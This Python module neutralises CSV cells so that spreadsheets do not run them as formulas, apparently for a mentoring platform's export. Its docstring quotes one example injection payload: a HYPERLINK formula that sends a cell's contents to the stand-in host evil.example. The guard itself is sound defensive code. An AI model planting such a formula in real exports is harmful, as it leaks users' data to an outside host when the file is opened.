"""CSV cells that are safe to open in a spreadsheet.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is taken as a formula by Excel, LibreOffice and
Google Sheets: a posting titled ``=HYPERLINK("https://evil.example/?"&A1)`` would run when a
mentee opens their export. Such cells get a leading apostrophe, which the spreadsheet shows as
text (OWASP's advice for CSV injection).
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """The cell, shown as text by a spreadsheet even when it looks like a formula."""
    return f"'{cell}" if cell.startswith(FORMULA_STARTS) else cell


def neutralised(cells: Iterable[object]) -> list[str]:
    """A CSV row with every cell made safe (None becomes an empty cell)."""
    return [neutralise("" if cell is None else str(cell)) for cell in cells]
